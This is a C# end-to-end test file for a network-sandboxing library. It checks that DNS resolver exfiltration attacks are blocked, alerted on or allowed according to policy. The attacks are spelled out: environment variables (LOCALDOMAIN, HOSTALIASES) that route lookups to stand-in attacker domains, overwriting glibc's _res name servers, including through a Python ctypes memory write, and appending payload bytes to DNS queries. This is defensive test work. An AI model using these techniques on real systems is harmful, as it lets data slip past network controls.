namespace IronFunction.Tests.EndToEnd;

// End-to-end tests of the resolver's configuration (outbound_connectivity, SPEC §4, §7): a function that changes
// what glibc's resolver asks (LOCALDOMAIN with RES_OPTIONS ndots, HOSTALIASES) or where it asks it (_res's name
// servers, a res_state of its own), or that sends bytes after an allowed question, must not get an allowed name's
// lookup to carry something else out, nor have the answer trusted as the allowed name's. Each attack runs in a
// fresh process (the resolver state is per process and thread) of probes/resolver_probe.c inside the test's
// network namespace, whose DNS servers log every query they receive: the namespace's own (203.0.113.53, which
// also answers every name under attacker.example with 203.0.113.7) and an attacker's (203.0.113.7 and
// 2001:db8::7, logged as "dns-evil").

public static class ResolverProbe
{
    private static readonly string SourcePath =
        Path.Combine(Machine.RepoRoot, "tests", "IronFunction.Tests", "EndToEnd", "probes", "resolver_probe.c");

    public static readonly Lazy<string> Exe = new(() => CProbe.Compile("resolver_probe", File.ReadAllText(SourcePath)));
}

/// <summary>An attack on the resolver: its commands, what block mode must answer, what shows it worked.</summary>
/// <param name="Denied">Commands and a fragment of their block-mode line.</param>
/// <param name="Leak">A fragment of a server log line that only the attack produces.</param>
/// <param name="Events">The "what" of every block-mode event.</param>
/// <param name="Knob">What the lookup's event names as changed (null: nothing is reported).</param>
/// <param name="Kept">
/// The attack changes the variables glibc reads when it loads its configuration: the library's start has glibc load
/// it with their values at start (see resolver_state.c), so in alert mode the lookup is let through and reported but
/// answered as the system's configuration answers it.
/// </param>
public sealed record ResolverAttack(string Name, string[] Commands, (string Command, string Blocked)[] Denied, string Leak,
    string[] Events, string? Knob, bool Kept = false)
{
    public override string ToString() => Name;
}

public class ResolverConfigurationTests
{
    private const string Allowed = "api.dns.yahoo.com"; // allowed (yahoo.com), known to the DNS server only
    private const string GaiFail = "status=-4", HostentFail = "result=NULL h_errno=3", QueryFail = "result=-1 h_errno=3";
    private const string Eperm = "result=-1 errno=1";

    public static readonly TheoryData<ResolverAttack> Attacks =
    [
        // the search list and ndots from the environment: the query is api.dns.yahoo.com.<data>.attacker.example
        new("LOCALDOMAIN with RES_OPTIONS ndots:5",
            ["env LOCALDOMAIN=secret-data.attacker.example", "env RES_OPTIONS=ndots:5", $"gai {Allowed}", $"ghbn {Allowed}", "connect4 203.0.113.7 7070"],
            [($"gai {Allowed}", GaiFail), ($"ghbn {Allowed}", HostentFail), ("connect4 203.0.113.7 7070", Eperm)],
            "secret-data.attacker.example", [Allowed, Allowed, "203.0.113.7:7070"], "LOCALDOMAIN, RES_OPTIONS", Kept: true),
        // the variables applied by res_init, then put back: without the library glibc loads its configuration with
        // them there and keeps it; with it, glibc loaded it at start, so nothing changed and nothing leaves
        new("LOCALDOMAIN applied by res_init, then unset",
            ["env LOCALDOMAIN=secret-data.attacker.example", "env RES_OPTIONS=ndots:5", "resinit", "unenv LOCALDOMAIN", "unenv RES_OPTIONS",
             $"gai {Allowed}", $"resq {Allowed}"],
            [($"gai {Allowed}", "status=0 addrs=203.0.113.40"), ($"resq {Allowed}", "result=answer")],
            "secret-data.attacker.example", [], null, Kept: true),
        // an always-allowed single-label name ("aws") rewritten to the attacker's
        new("HOSTALIASES",
            ["env HOSTALIASES={aliases}", "gai aws", "ghbn aws", "connect4 203.0.113.41 7070"],
            [("gai aws", GaiFail), ("ghbn aws", HostentFail), ("connect4 203.0.113.41 7070", Eperm)],
            "dns exfil.dns.evil.example", ["aws", "aws", "203.0.113.41:7070"], "HOSTALIASES"),
        // allowed questions sent to the attacker's name server, which answers them
        new("_res name server",
            ["resns 203.0.113.7", $"gai {Allowed}", $"resq {Allowed}", "connect4 203.0.113.7 7070"],
            [($"gai {Allowed}", GaiFail), ($"resq {Allowed}", QueryFail), ("connect4 203.0.113.7 7070", Eperm)],
            "dns-evil", [Allowed, Allowed, "203.0.113.7:7070"], "_res"),
        new("_res IPv6 name server",
            ["resns6 2001:db8::7", $"gai {Allowed}"],
            [($"gai {Allowed}", GaiFail)],
            "dns-evil", [Allowed], "_res"),
        new("a res_state of the caller's own",
            [$"resnq_ns 203.0.113.7 {Allowed}"],
            [($"resnq_ns 203.0.113.7 {Allowed}", QueryFail)],
            "dns-evil", [Allowed], "the res_state passed to res_nquery"),
        // res_nsend sends its buffer whole: an allowed question with anything after it
        new("res_nsend with bytes after the question",
            [$"resnsend_extra {Allowed} SECRET-PAYLOAD"],
            [($"resnsend_extra {Allowed} SECRET-PAYLOAD", QueryFail)],
            "dns-extra", ["(a DNS message that is not a plain query)"], "not a plain query"),
    ];

    private static NamespaceRun Run(Sandbox box, ResolverAttack attack, string? policy, bool preload = true)
    {
        var aliases = box.File("aliases", "aws exfil.dns.evil.example\n");
        var commands = attack.Commands.Select(c => c.Replace("{aliases}", aliases)).ToArray();
        return NetNamespace.Run(box, policy, ResolverProbe.Exe.Value, commands, preload);
    }

    [NamespaceTheory]
    [MemberData(nameof(Attacks))]
    public void Block_mode_denies_the_lookup_and_nothing_reaches_a_name_server(ResolverAttack attack)
    {
        using var box = new Sandbox();
        var plain = Run(box, attack, null, preload: false);
        Assert.True(plain.ServerLog.Any(l => l.Contains(attack.Leak)), $"the attack does not work without the library:\n{plain}");

        var block = Run(box, attack, NetNamespace.BlockPolicy);
        Assert.True(block.Result.ExitCode == 0, block.ToString());
        foreach (var (command, blocked) in attack.Denied)
            Assert.True(block.Line(command).Contains(blocked, StringComparison.Ordinal), $"{command}: expected \"{blocked}\"\n{block}");
        Assert.DoesNotContain(block.ServerLog, l => l.Contains(attack.Leak));
        Assert.DoesNotContain(block.ServerLog, l => l.StartsWith("dns-evil") || l.Contains("attacker.example") || l.StartsWith("tcp "));
        NetNamespace.EventsHaveSeedSchema(block);
        NetNamespace.SameEvents(attack.Events, block.Events("block"), block);
        if (attack.Knob != null) Assert.Contains(block.Result.Events, e => e.Str("message").Contains(attack.Knob, StringComparison.Ordinal));
    }

    [NamespaceTheory]
    [MemberData(nameof(Attacks))]
    public void Alert_mode_lets_it_through_and_reports_what_changed(ResolverAttack attack)
    {
        using var box = new Sandbox();
        var plain = Run(box, attack, null, preload: false);
        var alert = Run(box, attack, NetNamespace.AlertPolicy);
        foreach (var command in attack.Commands.Where(c => !c.StartsWith("env HOSTALIASES", StringComparison.Ordinal)))
            if (!attack.Kept) Assert.Equal(plain.Line(command), alert.Line(command));
            else foreach (var denied in new[] { GaiFail, HostentFail, QueryFail, Eperm }) Assert.DoesNotContain(denied, alert.Line(command));
        if (attack.Kept) Assert.DoesNotContain(alert.ServerLog, l => l.Contains(attack.Leak));
        else Assert.Contains(alert.ServerLog, l => l.Contains(attack.Leak));
        NetNamespace.EventsHaveSeedSchema(alert);
        Assert.All(alert.Result.Events, e => Assert.Equal("alert", e.Str("action")));
        if (attack.Knob != null) Assert.Contains(alert.Result.Events, e => e.Str("message").Contains(attack.Knob, StringComparison.Ordinal));
        // what the changed resolver answered is not trusted as the allowed name's address: the connect is reported
        foreach (var connect in attack.Denied.Select(d => d.Command).Where(c => c.StartsWith("connect4 ")))
            Assert.Contains(alert.Events(), w => w.Contains(connect.Split(' ')[1] + (attack.Kept ? ":" : "):"), StringComparison.Ordinal));
    }

    [NamespaceTheory]
    [MemberData(nameof(Attacks))]
    public void Allow_mode_is_silent(ResolverAttack attack)
    {
        using var box = new Sandbox();
        var plain = Run(box, attack, null, preload: false);
        var allow = Run(box, attack, NetNamespace.Policy("allow"));
        foreach (var command in attack.Commands.Where(c => !c.StartsWith("env HOSTALIASES", StringComparison.Ordinal)))
            Assert.Equal(plain.Line(command), allow.Line(command));
        Assert.Contains(allow.ServerLog, l => l.Contains(attack.Leak));
        Assert.Empty(allow.Result.Events);
    }

    /// <summary>A resolver left as the system (and the function's configuration at start) made it is no reason to deny.</summary>
    [NamespaceFact]
    public void An_untouched_resolver_and_variables_set_at_start_are_not_a_change()
    {
        using var box = new Sandbox();
        string[] commands = [$"gai {Allowed}", "resinit", $"gai {Allowed}", $"resq {Allowed}", $"ressend {Allowed}", $"ghbn {Allowed}", "gai www.yahoo.com"];
        var start = new Dictionary<string, string?> { ["RES_OPTIONS"] = "ndots:1 attempts:1", ["LOCALDOMAIN"] = "dns.yahoo.com" };
        var plain = NetNamespace.Run(box, null, ResolverProbe.Exe.Value, commands, preload: false, env: start);
        var block = NetNamespace.Run(box, NetNamespace.BlockPolicy, ResolverProbe.Exe.Value, commands, env: start);
        foreach (var command in commands) Assert.Equal(plain.Line(command), block.Line(command));
        Assert.Contains("status=0 addrs=203.0.113.40", block.Line($"gai {Allowed}"));
        Assert.Contains("result=answer", block.Line($"ressend {Allowed}"));
        Assert.Empty(block.Result.Events);
    }

    private const string PythonScript = """
        import ctypes, os, socket, sys
        attack, name = sys.argv[1], sys.argv[2]
        libc = ctypes.CDLL(None)
        if attack == "localdomain":
            os.environ["LOCALDOMAIN"] = "secret-data.attacker.example"
            os.environ["RES_OPTIONS"] = "ndots:5"
        elif attack == "hostaliases":
            os.environ["HOSTALIASES"] = sys.argv[3]
        elif attack == "nameserver":
            libc.__res_init()
            libc.__res_state.restype = ctypes.c_void_p
            res = libc.__res_state()
            ctypes.c_int.from_address(res + 16).value = 1  # nscount
            # nsaddr_list[0]: AF_INET, port 53, the attacker's server
            ctypes.memmove(res + 20, (2).to_bytes(2, "little") + (53).to_bytes(2, "big") + socket.inet_aton("203.0.113.7"), 8)
        try:
            found = sorted({a[4][0] for a in socket.getaddrinfo(name, 7070, type=socket.SOCK_STREAM)})
            print("case=lookup ok", " ".join(found))
        except socket.gaierror as e:
            print("case=lookup gaierror", e.errno)
        try:
            socket.create_connection((found[0], 7070), timeout=5).close()
            print("case=connect ok")
        except (OSError, NameError) as e:
            print("case=connect", type(e).__name__, getattr(e, "errno", ""))
        """;

    [NamespaceTheory]
    [InlineData("localdomain", "api.dns.yahoo.com", "secret-data.attacker.example")]
    [InlineData("hostaliases", "aws", "dns exfil.dns.evil.example")]
    [InlineData("nameserver", "api.dns.yahoo.com", "dns-evil")]
    public void Python_ctypes_and_os_environ_attacks(string attack, string name, string leak)
    {
        using var box = new Sandbox();
        var script = box.File("attack.py", PythonScript);
        var aliases = box.File("aliases", "aws exfil.dns.evil.example\n");
        string[] args = [script, attack, name, aliases];
        var plain = NetNamespace.Run(box, null, Machine.Python.Value, args, preload: false);
        Assert.StartsWith("ok", plain.Case("lookup"));
        Assert.Contains(plain.ServerLog, l => l.Contains(leak));

        var block = NetNamespace.Run(box, NetNamespace.BlockPolicy, Machine.Python.Value, args);
        Assert.Equal("gaierror -4", block.Case("lookup"));
        Assert.DoesNotContain(block.ServerLog, l => l.Contains(leak) || l.StartsWith("tcp "));
        Assert.Contains(block.Events("block"), w => w == name);

        var alert = NetNamespace.Run(box, NetNamespace.AlertPolicy, Machine.Python.Value, args);
        // LOCALDOMAIN: glibc keeps the configuration it loaded at the library's start (see ResolverAttack.Kept)
        if (attack == "localdomain") Assert.Equal("ok 203.0.113.40", alert.Case("lookup"));
        else Assert.Equal(plain.Case("lookup"), alert.Case("lookup"));
        Assert.Equal("ok", alert.Case("connect"));
        Assert.Contains(alert.Result.Events, e => e.Str("what") == name && e.Str("message").Contains("changed after start"));

        var allow = NetNamespace.Run(box, NetNamespace.Policy("allow"), Machine.Python.Value, args);
        Assert.Equal(plain.Case("lookup"), allow.Case("lookup"));
        Assert.Empty(allow.Result.Events);
    }
}
